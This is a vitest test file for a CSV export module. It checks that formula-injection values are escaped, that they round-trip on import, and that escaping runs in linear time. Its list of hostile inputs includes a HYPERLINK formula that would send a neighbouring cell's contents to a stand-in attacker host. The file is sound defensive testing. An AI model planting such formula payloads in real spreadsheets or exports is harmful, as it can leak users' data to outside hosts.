import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { csvLine, csvStart, escapeFormulas, unescapeFormulas } from './csv.ts'

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const hostile = [
  ...starts.map((start) => `${start}1+1`),
  ...starts.flatMap((start) => [';', '|', '\t'].map((separator) => `Ann${separator}${start}1+1`)),
  'Ann;=HYPERLINK("https://evil.example/"&B1)',
  'Ann\n=1+1',
  'Ann\r\n=1+1',
  ' =1+1',
  'Ann; =1+1',
  '"=1+1',
  'Ann;"=1+1',
  '=1+1","=2',
]
const harmless = [
  'Ann',
  'a-b@example.com',
  '1 + 1 = 2',
  "O'Brien",
  '',
  'say "hello", please',
  "it's; here",
  'a\r\nb',
]
const alreadyEscaped = [
  "'=1+1",
  "''=1+1",
  "Ann;'=1",
  "Ann;''=1",
  "'\t'=1",
  "\n'=1",
  "  '=1",
  "\t'=1",
  "\r\n'\n'=1",
]

/** The cells as seen by a program that splits at the separator, respecting quotes or not. */
const cellsOf = (line: string, separator: string) => [
  ...(
    parse(line, { delimiter: separator, relax_quotes: true, relax_column_count: true }) as string[][]
  ).flat(),
  ...line.split(/[\r\n]/).flatMap((row) => row.split(separator)),
]

test.each(hostile)('SEC-45 no program that opens %j in an export evaluates it', (value) => {
  const line = csvLine(['id', value, 'end'])
  for (const separator of [',', ';', '|', '\t'])
    for (const cell of cellsOf(line, separator)) expect(cell, separator).not.toMatch(/^ *[=+\-@＝＋－＠]/)
})

test.each([...hostile, ...harmless, ...alreadyEscaped])(
  'SEC-45 %j is unchanged after an export and import',
  (value) => {
    expect(unescapeFormulas(escapeFormulas(value))).toBe(value)
    const [row] = parse(csvLine(['id', value]), {}) as string[][]
    expect(unescapeFormulas(row?.[1] ?? '')).toBe(value)
  },
)

test.each(harmless)('%j is unchanged in an export', (value) => {
  expect(escapeFormulas(value)).toBe(value)
})

test('SEC-45 every cell of an export is quoted', () => {
  expect(csvStart(['id', 'name'])).toBe('\ufeff"id","name"\r\n')
  expect(csvLine([1, null, 'a "b"', '-5', -5])).toBe(`"1","","a ""b""","'-5","-5"\r\n`)
})

test('SEC-14 escaping takes linear time', () => {
  for (const value of [
    "'".repeat(200_000),
    ' '.repeat(200_000),
    `;${" '".repeat(100_000)}`,
    ';'.repeat(200_000),
  ]) {
    const started = performance.now()
    expect(unescapeFormulas(escapeFormulas(value))).toBe(value)
    expect(performance.now() - started).toBeLessThan(500)
  }
})
